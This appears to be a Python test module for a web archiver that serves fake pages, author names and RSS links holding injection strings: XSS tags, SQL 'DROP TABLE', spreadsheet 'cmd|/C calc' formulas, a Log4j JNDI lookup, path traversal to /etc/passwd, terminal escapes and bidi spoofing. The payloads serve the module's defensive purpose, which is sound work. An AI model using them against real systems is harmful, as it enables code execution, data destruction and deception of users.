"""Titles, names and addresses that would be commands elsewhere: in HTML, SQL, spreadsheets and terminals."""

from __future__ import annotations

from hostile.behaviour import DOMAIN, add, archived, behaviour, not_article, read
from hostile.exchange import Exchange
from hostile.stories import declared, story

# A title, and "" where it stands in the archive as it is, "?" where something of it does, or why it is no title.
TITLES = {
    "script": ("<script>alert(1)</script> in a title", ""),
    "markup": ('"><img src=x onerror=alert(1)> in a title', ""),
    "entities": ("&lt;script&gt; &amp;amp; in a title", ""),
    "template": ("{{7*7}} ${7*7} <%= 7*7 %> in a title", ""),
    "formula": ('=HYPERLINK("http://a.example","in a title")', ""),
    "formula-plus": ("+1+cmd|' /C calc'!A0 in a title", ""),
    "formula-minus": ("-2+3+cmd|' /C calc'!A0 in a title", ""),
    "formula-at": ("@SUM(1+9)*cmd|' /C calc'!A0 in a title", ""),
    "sql": ("Robert'); DROP TABLE articles; -- in a title", ""),
    "sql-wildcards": ("100% _ of \\ \" ' ` ; in a title", ""),
    "full-text": ('NEAR(a b) AND "x* OR title: ^in a title', ""),
    "bidi": ("\u202egnp.exe\u202c \u2066x\u2069 in a title", "?"),
    "zero-width": ("Z\u200be\u200br\u200bo \ufeff in a title", "?"),
    "combining": ("Z" + "\u0337" * 500 + " in a title", "no title"),
    "terminal": ("\x1b[2J\x1b[31mRed\x1b]0;owned\x07 in a title", "?"),
    "terminal-8-bit": ("\x9b31mRed\x9d0;owned\x9c in a title", "?"),
    "bell": ("Bell \x07\x08\x7f\x0b in a title", "?"),
    "carriage-return": ("Overwritten\r\rShown in a title", "?"),
    "lines": ("Two\n\nlines\u2028and\u2029more in a title", "?"),
    "nul": ("Nothing\0here in a title", "?"),
    "private-use": ("\ue000\uf8ff\U000f0000 in a title", "?"),
    "tags-of-unicode": ("Flag\U000e0041\U000e007f in a title", "?"),
    "path": ("../../../../etc/passwd in a title", ""),
    "format": ("%s %n %(name)s {0} {name} in a title", ""),
    "log4j": ("${jndi:ldap://a.example/x} in a title", ""),
    "long": ("long " * 20_000 + "title", "no title"),
}


def _titled(title: str):
    async def respond(exchange: Exchange) -> None:
        await exchange.answer(story(title, name=exchange.path))

    return respond


for _name, (_title, _kept) in TITLES.items():
    _outcome = not_article("no title") if _kept == "no title" else archived(title=_title) if not _kept else archived()
    add("values", f"title-of-{_name}", _titled(_title), _outcome)

NAMES = (
    "=cmd|'/C calc'!A0",
    "\x1b[31mRed Name\x1b[0m",
    "<b>Bold Name</b>",
    "Robert'); DROP TABLE quotes; --",
    "\u202eeman",
)


@behaviour(archived(title="Names of all kinds"))
async def names(exchange: Exchange) -> None:
    title = "Names of all kinds"
    head = declared(title, author=[{"@type": "Person", "name": name} for name in NAMES], keywords=list(NAMES))
    await exchange.answer(
        story(title, json_ld=head, body="".join(f"<p>“We shall see,” said {name}.</p>" for name in ()))
    )


@behaviour(archived(title="Quotes of all kinds"))
async def quotes(exchange: Exchange) -> None:
    said = "".join(
        f"<p>“{text} is what we heard of it,” said Maria Lind.</p>" for text, _ in list(TITLES.values())[4:24]
    )
    await exchange.answer(story("Quotes of all kinds", body=said.replace("<script", "&lt;script")))


@behaviour(archived(title="A view count of another world"))
async def printed_views(exchange: Exchange) -> None:
    counts = "".join(f'<span class="views">{n} views</span>' for n in ("-1", "1e999", str(2**64), "9" * 5000, "=1+1"))
    await exchange.answer(story("A view count of another world", body=counts))


@behaviour(archived(title="An address of commands"))
async def address_of_commands(exchange: Exchange) -> None:
    await exchange.answer(story("An address of commands"))


@behaviour(read(), kind="listing")
async def addresses_of_commands(exchange: Exchange) -> None:
    """What is listed here exists nowhere, but goes into the ledger, and from there into what people see."""
    tails = (
        "%1b[31m",
        "\x1b[31m",
        "';DROP TABLE pages;--",
        "<script>alert(1)</script>",
        "%00",
        "%0d%0aX: y",
        "\u202e",
        "=1+1",
    )
    items = "".join(f"<item><link><![CDATA[http://values.{DOMAIN}/gone/{tail}]]></link></item>" for tail in tails)
    await exchange.answer(
        f"<rss><channel>{items}</channel></rss>".replace("\x1b", ""), Content_Type="application/rss+xml"
    )


@behaviour(read(), kind="listing")
async def listing_of_an_address_of_100_kilobytes(exchange: Exchange) -> None:
    items = f"<item><link>http://values.{DOMAIN}{exchange.path}?{'u' * 100_000}</link></item>"
    await exchange.answer(f"<rss><channel>{items}</channel></rss>", Content_Type="application/rss+xml")
